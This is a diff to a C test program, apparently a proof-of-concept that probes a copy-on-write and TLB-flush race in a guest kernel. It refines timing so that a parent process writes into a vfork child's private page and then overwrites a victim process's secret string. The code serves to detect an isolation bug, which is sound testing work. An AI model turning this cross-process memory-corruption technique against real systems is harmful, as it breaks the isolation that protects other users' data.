@@ -14,6 +14,17 @@
  *      child munmaps X, the frame is reused by an unrelated process (the
  *      victim), and the parent's spinning thread overwrites its secret.
  * Exit 0 and "LEAK"/"CORRUPT" lines = finding.
+ *
+ * A and B start their clocks when the child has run (a flag in a shared
+ * page, set after the child's first look at X), not at the vfork call: the
+ * call can wait long on a loaded host, and a write before the fork is no
+ * leak. Between the flag and the writes they make no syscall (a syscall's
+ * return would flush the parent's queue and hide the stale mapping). The
+ * child calls it a leak only if X changed while it watched. They are out of
+ * their last syscall (ready flags) before the parent forks, and the test
+ * gives the guest more vCPUs than threads: a fault, a syscall's return or a
+ * preemption of any parent thread after the fork flushes the queue too, and
+ * would hide a stale mapping that the next syscall-free write could use.
  */
 #define _GNU_SOURCE
 #include <pthread.h>
@@ -29,7 +40,9 @@
 #include <unistd.h>
 
 static volatile char *X;
+static volatile int *child_ran;  /* MAP_SHARED: the vfork child has taken its first look at X */
 static volatile int b_result;
+static volatile int a_ready, b_ready;  /* A, B are past their last syscall before the fork */
 static volatile unsigned long long t_bwrite, t_vfork, t_aexit;
 static int gate[2];  /* A and B wait here (a blocking read), so they do not compete for vCPUs before the vfork */  /* bits: 1 child page written, 2 victim secret overwritten */
 
@@ -43,13 +56,21 @@ static void msleep(int ms) {
   nanosleep(&ts, NULL);
 }
 
+/* Spin (no syscall) until the vfork child has run, then cycles more. */
+static void after_child(unsigned long long cycles) {
+  unsigned long long t = rdtsc();
+  while (!*child_ran && rdtsc() - t < 30000000000ULL) ;
+  t = rdtsc();
+  while (rdtsc() - t < cycles) ;
+}
+
 static void *exiter(void *arg) {
   (void)arg;
   syscall(SYS_set_tid_address, (void *)X);
   char c;
   read(gate[0], &c, 1);
-  unsigned long long t = rdtsc();
-  while (rdtsc() - t < 300000000ULL) ;   /* ~100 ms after the vfork */
+  a_ready = 1;
+  after_child(200000000ULL);              /* ~100 ms: after B's write (the exit flushes the parent's queue) */
   t_aexit = rdtsc();
   syscall(SYS_exit, 0);                  /* breakCow on the parent's side, never flushed */
   return NULL;
@@ -59,17 +80,31 @@ static void *writer(void *arg) {
   (void)arg;
   char c;
   read(gate[0], &c, 1);
-  unsigned long long t = rdtsc();
-  while (rdtsc() - t < 500000000ULL) ;
+  b_ready = 1;
+  after_child(100000000ULL);              /* ~50 ms */
   t_bwrite = rdtsc();
   strcpy((char *)X + 16, "PARENT-WROTE-AFTER-FORK");    /* 1: into the child's page */
   b_result |= 1;
-  t = rdtsc();
+  unsigned long long t = rdtsc();
   while (rdtsc() - t < 12000000000ULL) {
     char *s = memmem((const void *)X, 4096, "VICTIM-SECRET", 13);
     if (s) { memcpy(s, "ATTACKER-WAS", 12); b_result |= 2; break; }  /* 2: into the victim */
   }
   return NULL;
+}
+
+/* The vfork child reads X through the kernel (a pipe): a load of its own
+ * would fault, and a fault on a private writable page takes the child its
+ * own copy at once, so a stale parent mapping would write a frame the child
+ * no longer sees. */
+static void peek(char out[64]) {
+  int p[2];
+  pipe(p);
+  write(p[1], (const char *)X + 16, 63);
+  read(p[0], out, 63);
+  out[63] = 0;
+  close(p[0]);
+  close(p[1]);
 }
 
 int main(int argc, char **argv) {
@@ -87,6 +122,7 @@ int main(int argc, char **argv) {
     if (!bad) printf("victim: memory intact\n");
     return bad ? 42 : 0;
   }
+  child_ran = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
   X = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
   strcpy((char *)X + 16, "PARENT-ORIGINAL");
   pid_t v = fork();
@@ -102,15 +138,17 @@ int main(int argc, char **argv) {
   msleep(50);
   strcpy((char *)X + 16, "PARENT-ORIGINAL");  /* writable in the host again (the victim's fork made it read-only) */
   write(gate[1], "ab", 2);
+  while (!a_ready || !b_ready) ;
   /* vfork semantics without a shared VM: the parent blocks until the child exits */
   t_vfork = rdtsc();
   long c = syscall(SYS_clone, CLONE_VFORK | SIGCHLD, 0, 0, 0, 0);
   if (c == 0) {
-    msleep(200);
-    char seen[64];
-    memcpy(seen, (const void *)X + 16, 63);
-    seen[63] = 0;
-    printf("child: my private X reads \"%s\"%s\n", seen, strstr(seen, "PARENT-WROTE") ? "  <- LEAK: the parent wrote my memory after fork" : ""); fflush(stdout);
+    char first[64], seen[64];
+    peek(first);
+    *child_ran = 1;
+    msleep(400);
+    peek(seen);
+    printf("child: my private X reads \"%s\"%s\n", seen, strcmp(seen, first) ? "  <- LEAK: the parent wrote my memory after fork" : ""); fflush(stdout);
     msleep(100);
     munmap((void *)X, 4096);   /* the frame's last reference goes */
     msleep(2500);
